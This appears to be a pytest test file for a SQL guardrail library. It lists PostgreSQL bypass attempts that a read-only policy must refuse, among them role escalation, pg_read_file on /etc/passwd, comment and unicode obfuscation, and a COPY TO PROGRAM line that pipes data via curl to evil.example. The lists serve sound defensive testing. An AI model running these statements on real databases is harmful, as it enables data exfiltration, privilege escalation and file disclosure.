"""The guardrail bypass corpus: statements a read-only grant must refuse, and harmless ones it must pass."""

from __future__ import annotations

import pytest

from sqlgate.policy import Guardrails
from sqlgate.policy.sql import PreparedRegistry, check, classify, clear_caches, uncached_classify

READ_ONLY = Guardrails(deny=["write", "ddl", "dcl", "admin"])

IDENTITY_ESCAPES = [
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "SET LOCAL ROLE admin",
    "RESET ROLE",
    "RESET SESSION AUTHORIZATION",
    "SET role TO DEFAULT",
    "BEGIN; SET ROLE admin; SELECT 1; COMMIT",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT pg_catalog.set_config('session_authorization', 'postgres', true)",
    "SELECT set_config('ROLE'::text, 'x', false)",
    "SELECT set_config(lower('ROLE'), 'x', false)",
    "SELECT * FROM set_config('role', 'x', false)",
]

MUST_REFUSE = [
    # plain writes, DDL, DCL
    "INSERT INTO t VALUES (1)",
    "UPDATE t SET a = 1 WHERE id = 2",
    "DELETE FROM t WHERE id = 1",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "TRUNCATE t",
    "CREATE TABLE x (a int)",
    "DROP TABLE t",
    "ALTER TABLE t ADD COLUMN b int",
    "CREATE INDEX ON t (a)",
    "GRANT SELECT ON t TO PUBLIC",
    "REVOKE ALL ON t FROM bob",
    "CREATE ROLE mallory SUPERUSER",
    "ALTER ROLE bob WITH PASSWORD 'x'",
    "DROP ROLE bob",
    "ALTER SYSTEM SET log_statement = 'none'",
    "CREATE EXTENSION dblink",
    "DROP EXTENSION pg_stat_statements",
    "LOAD 'plpgsql'",
    "VACUUM FULL t",
    "CALL do_things()",
    "REFRESH MATERIALIZED VIEW mv",
    "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
    "CREATE TABLE copy AS SELECT * FROM t",
    # comments hiding keywords
    "SELECT 1; /* harmless */ DELETE FROM t WHERE id = 1",
    "/* SELECT */ DELETE FROM t WHERE id = 1",
    "SELECT 1 -- ; nothing here\n; DROP TABLE t",
    "DEL/**/ETE FROM t",  # not SQL at all: unparsable is refused
    "SELECT/**/1;/**/UPDATE/**/t/**/SET/**/a=1/**/WHERE/**/id=1",
    # ;-chained statements
    "SELECT 1; DROP TABLE t",
    "SELECT * FROM t;INSERT INTO t VALUES (2)",
    "BEGIN; DELETE FROM t WHERE id = 3; COMMIT",
    # data-modifying CTEs and subqueries
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING id) SELECT count(*) FROM u",
    "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1",
    "WITH a AS (SELECT 1), b AS (DELETE FROM t WHERE id = 1 RETURNING 1) SELECT * FROM a",
    "SELECT * FROM (SELECT 1) s, LATERAL (SELECT nextval('seq')) n",
    "SELECT setval('seq', 1)",
    # SELECT ... INTO and row locks
    "SELECT * INTO stolen FROM t",
    "SELECT * INTO TEMP tmp FROM t",
    "SELECT * FROM t FOR UPDATE",
    "SELECT * FROM t FOR SHARE NOWAIT",
    # COPY
    "COPY t TO PROGRAM 'curl -d @- http://evil.example'",
    "COPY t FROM PROGRAM 'id'",
    "COPY t TO '/tmp/out.csv'",
    "COPY t FROM '/etc/passwd'",
    "COPY t FROM STDIN",
    "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
    # file access and server signalling
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_catalog.pg_read_binary_file('global/pg_control')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1234, '/tmp/x')",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    "SELECT pg_reload_conf()",
    "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
    "SELECT 1 WHERE EXISTS (SELECT pg_cancel_backend(42))",
    "SELECT coalesce(NULL, pg_read_file('pg_hba.conf'))",
    "SELECT (SELECT pg_ls_waldir() LIMIT 1)",
    # dollar quoting, unicode escapes, quoted identifiers
    "SELECT $$harmless$$; DELETE FROM t WHERE id = 1",
    "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
    "DO $body$ BEGIN PERFORM pg_sleep(0); END $body$ LANGUAGE plpgsql",
    "SELECT U&\"pg_\\0072ead_file\"('/etc/passwd')",
    "SELECT U&\"pg_read_fil\\0065\"('x')",
    "SELECT \"pg_read_file\"('x')",
    "SELECT \"PG_READ_FILE\"('x')",
    "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
    # prepared statements
    "PREPARE p AS DELETE FROM t WHERE id = $1",
    "PREPARE q (int) AS INSERT INTO t VALUES ($1)",
    "EXECUTE q(1)",  # nothing known about q in this session: refused (see the registry tests below)
    "PREPARE ok2 AS SELECT 1; EXECUTE q(1)",
    # not SQL
    "SELEC 1",
    "SELECT 'unterminated",
    *IDENTITY_ESCAPES,
]

HARMLESS = [
    "SELECT 1",
    "select * from customers where id = 42",
    "SELECT id, name FROM public.customers ORDER BY name LIMIT 10",
    "SELECT count(*) FROM orders GROUP BY status HAVING count(*) > 1",
    "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT * FROM recent",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
    "SELECT a.id, b.total FROM a JOIN b ON a.id = b.a_id",
    "SELECT * FROM t WHERE name = 'DELETE FROM t'",
    "SELECT 'DROP TABLE t; SET ROLE x' AS text",
    "SELECT $$; DROP TABLE t;$$",
    "SELECT 1 -- DELETE FROM t",
    "SELECT /* UPDATE t SET a = 1 */ 2",
    "SELECT current_user, session_user",
    "SELECT current_setting('role')",
    "SELECT set_config('search_path', 'public', false)",
    "SELECT set_config('statement_timeout', '5s', true)",
    "SET search_path = public",
    "SET statement_timeout = '30s'",
    "SET TIME ZONE 'Europe/Berlin'",
    "RESET statement_timeout",
    "RESET ALL",
    "DISCARD ALL",
    "SHOW search_path",
    "SHOW ALL",
    "BEGIN",
    "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY",
    "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
    "COMMIT",
    "ROLLBACK",
    "SAVEPOINT s1",
    "EXPLAIN SELECT * FROM t",
    "EXPLAIN ANALYZE SELECT * FROM t WHERE id = 1",
    "COPY t TO STDOUT",
    "COPY (SELECT id FROM t) TO STDOUT WITH (FORMAT csv)",
    "DECLARE c CURSOR FOR SELECT * FROM t",
    "FETCH 10 FROM c",
    "CLOSE c",
    "PREPARE ok AS SELECT * FROM t WHERE id = $1",
    "DEALLOCATE ALL",
    "LISTEN events",
    "SELECT jsonb_build_object('a', 1) -> 'a'",
    "SELECT U&'d\\0061t\\+000061'",
    "VALUES (1), (2)",
    "SELECT * FROM generate_series(1, 10) g",
    "SELECT pg_sleep(0)",
    "",
    ";",
    "-- just a comment",
]


def test_corpus_sizes():
    assert len(MUST_REFUSE) >= 60
    assert len(HARMLESS) >= 30


@pytest.mark.parametrize("sql", MUST_REFUSE)
def test_refused_under_read_only(sql):
    violation = check(READ_ONLY, classify(sql))
    assert violation is not None, classify(sql)
    assert violation.reason
    assert violation.error().sqlstate == "42501"


@pytest.mark.parametrize("sql", HARMLESS)
def test_harmless_passes_under_read_only(sql):
    assert check(READ_ONLY, classify(sql)) is None, classify(sql)


@pytest.mark.parametrize("sql", IDENTITY_ESCAPES)
def test_identity_escapes_are_refused_even_without_guardrails(sql):
    violation = check(None, classify(sql))
    assert violation is not None
    assert violation.kind == "identity"


def test_execute_of_a_prepared_write_is_refused():
    registry = PreparedRegistry()
    prepare = classify("PREPARE w AS DELETE FROM t WHERE id = $1")
    assert check(Guardrails(deny=["ddl"]), prepare) is None  # a write grant may prepare it
    registry.observe(prepare)
    violation = check(READ_ONLY, classify("EXECUTE w(1)"), prepared=registry)
    assert violation is not None
    assert violation.reason.startswith("EXECUTE w: write statements are not allowed")


def test_execute_of_an_unknown_prepared_statement_is_refused():
    violation = check(READ_ONLY, classify("EXECUTE nobody_knows(1)"), prepared=PreparedRegistry())
    assert violation is not None
    assert violation.kind == "prepared"


def test_execute_of_a_prepared_read_passes_and_deallocate_forgets():
    registry = PreparedRegistry()
    registry.observe(classify("PREPARE r AS SELECT * FROM t WHERE id = $1"))
    assert check(READ_ONLY, classify("EXECUTE r(1)"), prepared=registry) is None
    registry.observe(classify("DEALLOCATE r"))
    assert check(READ_ONLY, classify("EXECUTE r(1)"), prepared=registry) is not None


def test_protocol_level_prepared_statements_can_be_registered():
    registry = PreparedRegistry()
    registry.register("s1", classify("UPDATE t SET a = 1 WHERE id = $1"))
    assert check(READ_ONLY, classify("EXECUTE s1(1)"), prepared=registry) is not None
    registry.forget("*")
    assert len(registry) == 0


@pytest.mark.parametrize("sql", MUST_REFUSE + HARMLESS)
def test_cached_classification_equals_fresh(sql):
    """A cache hit (by text or by constant-free shape) gives what a fresh parse gives."""
    clear_caches()
    first = classify(sql)
    assert classify(sql) is first
    assert first == uncached_classify(sql)


@pytest.mark.parametrize(
    ("warm", "probe"),
    [
        ("SELECT set_config('search_path', 'x', false)", "SELECT set_config('role', 'x', false)"),
        ("SELECT * FROM salaries", "SELECT * FROM hr.salaries"),
        ("DELETE FROM t WHERE id = 1", "DELETE FROM t WHERE true"),
        ("EXECUTE harmless(1)", "EXECUTE other(1)"),
        ("COPY t TO STDOUT", "COPY t TO '/tmp/x'"),
    ],
)
def test_a_warm_cache_never_hides_a_difference(warm, probe):
    """Statements that differ only in constants or names must not share a cache entry wrongly."""
    clear_caches()
    classify(warm)
    assert classify(probe) == uncached_classify(probe)


def test_prepare_and_execute_in_one_text_is_checked_in_order():
    """A PREPARE earlier in the same text counts; a DEALLOCATE in between makes the EXECUTE unknown."""
    assert check(READ_ONLY, classify("PREPARE r AS SELECT 1; EXECUTE r")) is None
    assert check(READ_ONLY, classify("PREPARE r AS SELECT 1; DEALLOCATE ALL; EXECUTE r")) is not None
    registry = PreparedRegistry()
    registry.observe(classify("PREPARE r AS SELECT 1"))
    violation = check(Guardrails(deny=["ddl"]), classify("PREPARE r AS DELETE FROM t WHERE id = 1; EXECUTE r"))
    assert violation is None  # a write grant may
    violation = check(READ_ONLY, classify("DEALLOCATE r; PREPARE r AS DELETE FROM t WHERE id = 1"), prepared=registry)
    assert violation is not None
